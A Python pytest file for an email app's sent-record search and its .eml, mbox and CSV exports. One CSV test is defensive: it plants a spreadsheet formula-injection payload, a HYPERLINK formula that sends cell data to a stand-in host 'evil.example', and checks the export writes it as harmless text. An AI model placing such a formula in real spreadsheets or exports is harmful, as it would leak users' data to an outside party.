"""Sent records: search among thousands, and exports that give back the exact bytes sent."""

from __future__ import annotations

import csv
import json
import mailbox
import os
import random
import subprocess
import sys
import textwrap
import tracemalloc
from collections import Counter
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from email import message_from_bytes, policy
from email.message import EmailMessage
from pathlib import Path

import pytest

from composer.errors import FileProblem
from composer.mail import build_message, sender_address
from composer.outbox import Outbox
from composer.paths import Paths
from composer.records import Attachment, Interview, Message, MessageState, Profile
from composer.sent_export import CSV_COLUMNS, Exported, export_eml, export_mbox, export_sent_csv
from composer.store import Store
from tests.helpers.files import mode
from tests.helpers.smtp_server import SmtpServer

ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture(autouse=True)
def profile(store: Store) -> None:
    store.save_profile(Profile(name="Zoë Müller", email="zoe@example.org", signature="Zoë"))


def send(outbox: Outbox, **values: object) -> Message:
    fields: dict[str, object] = {"subject": "Thank you", "body": "Thank you.\n"}
    fields.update(values)
    fields.setdefault("to", ["Ana Lima <ana@acme.example>"])
    queued = outbox.queue(Message(**fields))  # type: ignore[arg-type]
    assert queued.id is not None
    [result] = outbox.send([queued.id])
    assert result.state is MessageState.SENT, result.detail
    return outbox.store.message(queued.id)


@pytest.fixture
def sent(outbox: Outbox, smtp_server: SmtpServer) -> list[Message]:
    """Three real messages through the real outbox and SMTP server, and a draft between."""
    first = send(
        outbox,
        subject="Danke schön für das Gespräch — 山田さん",
        body="Liebe Grüße,\nZoë\n" + "Ünïcödé everywhere. " * 40 + "\n",
        to=["山田太郎 <taro@example.jp>"],
        cc=["Brontë <hr@acme.example>"],
    )
    second = send(
        outbox,
        subject="My portfolio",
        body="Attached, as promised.\n",
        attachments=[
            Attachment("Zoë CV.pdf", "application/pdf", b"%PDF\r\nFrom here\n.\r\n\x00\xff" * 500)
        ],
    )
    outbox.save_draft(Message(subject="Not finished", body="Dear", to=["bo@acme.example"]))
    third = send(
        outbox,
        subject="Thank you",
        body="From the whole team at Acme I learnt a lot.\n.\nFrom me: thank you.\n",
    )
    assert [m.raw for m in (first, second, third)] == [r.data for r in smtp_server.received]
    assert b"\r\nFrom " not in (third.raw or b"")  # written =46rom, so no mbox escapes it
    return [first, second, third]


def all_ids(store: Store) -> list[int]:
    return list(reversed(store.message_list_ids()))  # oldest first


# --- search ------------------------------------------------------------------------------

WORDS = (
    "thank you for the interview today role team data pipeline streaming engineer platform",
    "analytics meeting conversation follow up questions next steps looking forward hearing",
    "from soon kind regards best wishes grateful time opportunity",
)
VOCABULARY = " ".join(WORDS).split()
NAMES = ["Ana Lima", "Bo Chen", "Priya Murphy", "Sam Rivera", "Li Wei", "Kofi Mensah"]


def ten_thousand(store: Store, seed: int = 5) -> None:
    """Varied records in one transaction: as many as years of searching leave."""
    rng = random.Random(seed)
    start = datetime(2020, 1, 1, tzinfo=UTC)
    rows = []
    for n in range(10_000):
        name = rng.choice(NAMES)
        when = (start + timedelta(hours=n)).isoformat()
        rows.append(
            (
                "sent",
                " ".join(rng.choices(VOCABULARY, k=5)).capitalize(),
                "\n".join(" ".join(rng.choices(VOCABULARY, k=12)) for _ in range(6)),
                json.dumps([f"{name} <{name.split()[0].lower()}{n}@acme.example>"]),
                when,
                when,
                when,
            )
        )
    with store.transaction() as db:
        db.executemany(
            "INSERT INTO messages(state, subject, body, to_addrs, created_at, updated_at, "
            "sent_at) VALUES (?, ?, ?, ?, ?, ?, ?)",
            rows,
        )


@pytest.fixture(scope="module")
def crowded_store(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Store]:
    with Store(tmp_path_factory.mktemp("crowded") / "afterword.sqlite3") as store:
        yield store


@pytest.fixture(scope="module")
def crowded(crowded_store: Store) -> dict[str, int]:
    """10,000 messages, and a few with something distinctive, saved the ordinary way."""
    store = crowded_store
    ten_thousand(store)
    distinctive = {
        "body": Message(
            subject="Thank you for the interview",
            body="Thank you.\nI loved the story about the quokka in the office.\n",
            to=["Ana Lima <ana9999@acme.example>"],
        ),
        "recipient": Message(
            subject="Thank you",
            body="Thank you for your time.",
            to=["Ottoline Marchbanks <ottoline@tower.example>"],
        ),
        "subject": Message(subject="Xylophone recital notes", body="As promised.", to=["a@b.cd"]),
        "accents": Message(subject="Merci", body="Bien à vous, Zoë Brontë", to=["c@d.ef"]),
        "accented recipient": Message(
            subject="Thanks", body="Thank you.", to=["Émile Noël <en@acme.example>"]
        ),
    }
    ids = {}
    for key, message in distinctive.items():
        saved = store.save_message(message)
        assert saved.id is not None
        ids[key] = saved.id
    return ids


def test_search_finds_a_word_in_one_body_among_ten_thousand(
    crowded_store: Store, crowded: dict[str, int]
) -> None:
    store = crowded_store
    assert len(store.message_list_ids()) == 10_005
    assert store.message_list_ids(search="quokka") == [crowded["body"]]
    assert store.message_list_ids(search="QUOKKA office") == [crowded["body"]]


@pytest.mark.parametrize(
    ("typed", "finds"),
    [
        ("quok", "body"),  # a word as it is being typed
        ("ottoline", "recipient"),
        ("Marchbanks", "recipient"),
        ("ottoline@tower", "recipient"),
        ("xylophone", "subject"),
        ("Xylo recital", "subject"),
        ("zoe bronte", "accents"),  # typed without the accents
        ("Zoë Brontë", "accents"),
    ],
)
def test_search_by_a_prefix_the_recipients_the_subject_and_without_accents(
    crowded_store: Store, crowded: dict[str, int], typed: str, finds: str
) -> None:
    assert crowded_store.message_list_ids(search=typed) == [crowded[finds]]


def test_search_finds_an_accented_name_in_the_recipients(
    crowded_store: Store, crowded: dict[str, int]
) -> None:
    assert crowded_store.message_list_ids(search="noel") == [crowded["accented recipient"]]


@pytest.mark.parametrize(
    "typed",
    ["quokka*", '"quokka', "(quokka)", "-quokka", "quokka:", "^quokka", "quokka,", "{quokka}"],
)
def test_punctuation_typed_around_a_word_still_finds_it(
    crowded_store: Store, crowded: dict[str, int], typed: str
) -> None:
    assert crowded_store.message_list_ids(search=typed) == [crowded["body"]]


@pytest.mark.parametrize(
    "typed",
    ["AND", "OR", "NOT", "NEAR(", '"', "'", "*", "-", "(", ")", ":", "^", "+", "\\", "@", "a:b"],
)
def test_operators_and_punctuation_alone_do_not_fail(
    crowded_store: Store, crowded: dict[str, int], typed: str
) -> None:
    found = crowded_store.message_list_ids(search=typed)
    assert len(found) <= 10_005


# --- .eml and mbox give back the bytes sent ----------------------------------------------


def parsed(data: bytes) -> EmailMessage:
    message = message_from_bytes(data, policy=policy.default)
    assert isinstance(message, EmailMessage)
    return message


def test_eml_files_hold_the_bytes_as_sent(
    store: Store, sent: list[Message], tmp_path: Path
) -> None:
    exported = export_eml(store, all_ids(store), tmp_path / "records")

    assert exported.messages == 3
    assert exported.left_out == Counter({MessageState.DRAFT: 1})
    assert [path.read_bytes() for path in exported.files] == [m.raw for m in sent]
    for path, message in zip(exported.files, sent, strict=True):
        with path.open("rb") as file:
            reread = parsed(file.read())
        assert reread["Message-ID"] == message.header_id
        assert reread["Subject"] == message.subject
    assert sorted(p.name for p in (tmp_path / "records").iterdir()) == sorted(
        p.name for p in exported.files
    )


def test_the_mbox_gives_back_each_message_byte_for_byte(
    store: Store, sent: list[Message], smtp_server: SmtpServer, tmp_path: Path
) -> None:
    path = tmp_path / "records.mbox"

    exported = export_mbox(store, all_ids(store), path)

    assert (exported.messages, exported.files) == (3, [path])
    assert exported.left_out == Counter({MessageState.DRAFT: 1})
    box = mailbox.mbox(path, create=False)
    try:
        keys = list(box.keys())
        assert [box.get_bytes(key) for key in keys] == [m.raw for m in sent]
        assert [box.get_bytes(key) for key in keys] == [r.data for r in smtp_server.received]
        assert [box.get_message(key)["Message-ID"] for key in keys] == [m.header_id for m in sent]
        assert box.get_message(keys[0]).get_from().startswith("zoe@example.org ")
    finally:
        box.close()


def test_the_mbox_keeps_crlf_on_a_system_whose_line_end_is_crlf(
    store: Store, sent: list[Message], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """On Windows ``mailbox`` writes each LF as CRLF: the file must still hold the CRLF
    bytes as sent, not CR CR LF (mailbox itself reads lines back with LF there)."""
    monkeypatch.setattr(mailbox, "linesep", b"\r\n")
    path = tmp_path / "records.mbox"

    export_mbox(store, all_ids(store), path)

    data = path.read_bytes()
    assert all(message.raw and message.raw in data for message in sent)
    assert b"\r\r\n" not in data
    box = mailbox.mbox(path, create=False)
    try:
        keys = box.keys()
        assert [box.get_bytes(key) for key in keys] == [
            (m.raw or b"").replace(b"\r\n", b"\n") for m in sent
        ]
    finally:
        box.close()


def test_the_summary_says_how_many_were_exported_and_left_out(
    store: Store, sent: list[Message], tmp_path: Path
) -> None:
    exported = export_mbox(store, all_ids(store), tmp_path / "records.mbox")

    assert exported.summary() == (
        f"Exported 3 messages to {tmp_path / 'records.mbox'}; 1 draft left out: only what "
        "went out is exported."
    )


def test_the_summary_names_each_kind_left_out() -> None:
    left_out = Counter({MessageState.DRAFT: 2, MessageState.FAILED: 1, MessageState.SENT: 1})

    summary = Exported([], 1204, Path("records.mbox"), left_out).summary()

    assert summary == (
        "Exported 1,204 messages to records.mbox; 2 drafts, 1 failed message and 1 sent "
        "message with no copy kept left out: only what went out is exported."
    )


# --- file names and files that exist -------------------------------------------------------


def test_eml_names_say_when_and_what_and_never_replace_a_file(
    store: Store, outbox: Outbox, smtp_server: SmtpServer, tmp_path: Path
) -> None:
    messages = [send(outbox, subject='Re: "Data" role / next steps?') for _ in range(2)]
    messages.append(send(outbox, subject="..."))
    assert messages[0].sent_at is not None
    stamp = messages[0].sent_at.astimezone().strftime("%Y-%m-%d %H.%M")
    folder = tmp_path / "records"
    folder.mkdir()
    mine = folder / f"{stamp} Re Data role next steps.eml"
    mine.write_bytes(b"the user's own file")

    exported = export_eml(store, [m.id for m in messages if m.id], folder)

    assert [p.name for p in exported.files] == [
        f"{stamp} Re Data role next steps (2).eml",
        f"{stamp} Re Data role next steps (3).eml",
        f"{stamp} (no subject).eml",
    ]
    assert mine.read_bytes() == b"the user's own file"
    assert [p.read_bytes() for p in exported.files] == [m.raw for m in messages]


def test_a_subject_of_emoji_still_makes_a_file_name_every_disk_takes(
    store: Store, outbox: Outbox, smtp_server: SmtpServer, tmp_path: Path
) -> None:
    """Names are counted in bytes on disk: sixty emoji are 240 of them, past the 255 most
    file systems take (143 in an encrypted home)."""
    messages = [send(outbox, subject="🎉" * 70), send(outbox, subject="Thanks again")]

    exported = export_eml(store, [m.id for m in messages if m.id], tmp_path / "records")

    assert exported.messages == 2
    assert all(len(path.name.encode()) <= 143 for path in exported.files)
    assert "🎉🎉" in exported.files[0].name


def test_an_mbox_replaces_the_chosen_file_only_once_complete(
    store: Store, sent: list[Message], tmp_path: Path
) -> None:
    path = tmp_path / "records.mbox"
    path.write_bytes(b"an older export")

    export_mbox(store, all_ids(store), path)

    assert len(mailbox.mbox(path, create=False)) == 3
    assert [p.name for p in tmp_path.glob("*records*")] == ["records.mbox"]  # nothing else


# --- CSV ---------------------------------------------------------------------------------


def test_the_csv_summarises_every_message_drafts_included(
    store: Store, outbox: Outbox, smtp_server: SmtpServer, tmp_path: Path
) -> None:
    interview = store.add_interview(Interview(company="Acme GmbH", position="Data Engineer"))
    sent = send(
        outbox,
        subject="Danke, Zoë",
        to=["Ana Lima <ana@acme.example>", "bo@acme.example"],
        cc=["hr@acme.example"],
        interview_id=interview.id,
        template_id="thank_you",
    )
    draft = outbox.save_draft(Message(subject="=SUM(A1)", body="", to=["x@y.z"]))
    assert sent.sent_at is not None and sent.id and draft.id
    path = tmp_path / "summary.csv"

    exported = export_sent_csv(store, [sent.id, draft.id], path)

    assert exported.messages == 2 and not exported.left_out
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # spreadsheets then read UTF-8
    with path.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file))
    assert list(rows[0]) == list(CSV_COLUMNS)
    assert rows == [
        {
            "Date sent": sent.sent_at.astimezone().strftime("%Y-%m-%d %H:%M"),
            "State": "sent",
            "To": "Ana Lima <ana@acme.example>, bo@acme.example",
            "Cc": "hr@acme.example",
            "Subject": "Danke, Zoë",
            "Company": "Acme GmbH",
            "Position": "Data Engineer",
            "Template": "thank_you",
            "Message-ID": sent.header_id,
        },
        {
            "Date sent": "",
            "State": "draft",
            "To": "x@y.z",
            "Cc": "",
            "Subject": "'=SUM(A1)",  # text to a spreadsheet, not a formula
            "Company": "",
            "Position": "",
            "Template": "",
            "Message-ID": "",
        },
    ]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_the_csv_writes_formula_cells_as_text(store: Store, tmp_path: Path, start: str) -> None:
    """A subject or company someone else chose must not run as a spreadsheet formula."""
    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"Click")'
    interview = store.add_interview(Interview(company=formula, position="Lead"))
    draft = store.save_message(
        Message(subject=formula, body="", to=["x@y.z"], interview_id=interview.id)
    )
    assert draft.id is not None
    path = tmp_path / "summary.csv"

    export_sent_csv(store, [draft.id], path)

    with path.open(encoding="utf-8-sig", newline="") as file:
        [row] = list(csv.DictReader(file))
    assert row["Subject"] == row["Company"] == "'" + formula
    assert (row["To"], row["Position"]) == ("x@y.z", "Lead")


# --- the user's alone ------------------------------------------------------------------------


@pytest.mark.usefixtures("usual_umask")
def test_every_export_is_readable_by_the_user_alone(store: Store, tmp_path: Path) -> None:
    ids = sent_directly(store, big_raw(), 2)
    (tmp_path / "summary.csv").write_text("an older export, once 0644")
    os.chmod(tmp_path / "summary.csv", 0o644)

    emls = export_eml(store, ids, tmp_path / "new folder").files
    mbox = export_mbox(store, ids, tmp_path / "records.mbox").files
    summary = export_sent_csv(store, ids, tmp_path / "summary.csv").files

    assert {path: mode(path) for path in [*emls, *mbox, *summary]} == dict.fromkeys(
        [*emls, *mbox, *summary], 0o600
    )
    assert mode(tmp_path / "new folder") == 0o700


# --- big exports, and errors -----------------------------------------------------------------


def sent_directly(store: Store, raw: bytes, count: int) -> list[int]:
    """Sent records without a server: the outbox's own steps, in the store."""
    ids = []
    for n in range(count):
        message = store.save_message(
            Message(subject="Portfolio", body="Attached.", to=["a@b.cd"], state=MessageState.QUEUED)
        )
        assert message.id is not None and store.claim_for_sending(message.id)
        store.record_outgoing(message.id, f"<{n}@example.org>", raw)
        store.mark_sent(message.id, "250 OK")
        ids.append(message.id)
    return ids


def big_raw() -> bytes:
    return build_message(
        sender=sender_address("Zoë", "zoe@example.org"),
        to=["a@b.cd"],
        subject="Portfolio",
        body="Attached.",
        attachments=[Attachment("big.bin", "application/octet-stream", bytes(150_000))],
    ).raw


@pytest.mark.parametrize("export", [export_mbox, export_eml, export_sent_csv])
def test_messages_are_read_one_at_a_time(store: Store, tmp_path: Path, export: object) -> None:
    raw = big_raw()
    ids = sent_directly(store, raw, 60)  # 12 MB of messages, attachments twice that
    tracemalloc.start()
    try:
        export(store, ids, tmp_path / "out")  # type: ignore[operator]
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 20 * len(raw), f"{peak:,} bytes at most for {len(raw):,}-byte messages"


def test_a_folder_that_is_a_file_is_a_clear_problem(
    store: Store, sent: list[Message], tmp_path: Path
) -> None:
    taken = tmp_path / "records"
    taken.write_text("not a folder")

    with pytest.raises(FileProblem, match=r"could not write .*records: it is a file, not a"):
        export_eml(store, all_ids(store), taken)
    with pytest.raises(FileProblem, match="that folder does not exist"):
        export_mbox(store, all_ids(store), tmp_path / "missing" / "records.mbox")
    with pytest.raises(FileProblem, match="part of that path is a file"):
        export_sent_csv(store, all_ids(store), taken / "summary.csv")
    assert taken.read_text() == "not a folder"


DISK_FULL = textwrap.dedent(
    """
    import resource, signal, sys
    from pathlib import Path
    from composer.errors import FileProblem
    from composer.sent_export import export_eml, export_mbox
    from composer.store import Store

    database, target, folder = sys.argv[1:]
    store = Store(database)
    ids = list(reversed(store.message_list_ids()))
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a write past the limit fails (EFBIG)
    resource.setrlimit(resource.RLIMIT_FSIZE, (6_000, 6_000))
    for export, where in ((export_mbox, target), (export_eml, folder)):
        try:
            export(store, ids, Path(where))
        except FileProblem as problem:
            print(problem)
    """
)


@pytest.mark.skipif(sys.platform == "win32", reason="file size limits are POSIX")
def test_running_out_of_space_leaves_the_old_file_whole(
    store: Store, sent: list[Message], paths: Paths, tmp_path: Path
) -> None:
    target = tmp_path / "records.mbox"
    target.write_bytes(b"an older export")
    folder = tmp_path / "records"

    done = subprocess.run(
        [sys.executable, "-c", DISK_FULL, str(paths.database), str(target), str(folder)],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )

    assert done.returncode == 0, done.stderr
    mbox_problem, eml_problem = done.stdout.strip().split("\n")
    assert f"Afterword could not write {target}: the file would be larger" in mbox_problem
    assert target.read_bytes() == b"an older export"
    assert [p.name for p in tmp_path.glob("*.mbox*")] == [target.name]  # no temporary left
    assert "The first message was saved there; the rest were not." in eml_problem
    [whole] = folder.iterdir()
    assert whole.read_bytes() == sent[0].raw  # only complete messages are left in the folder
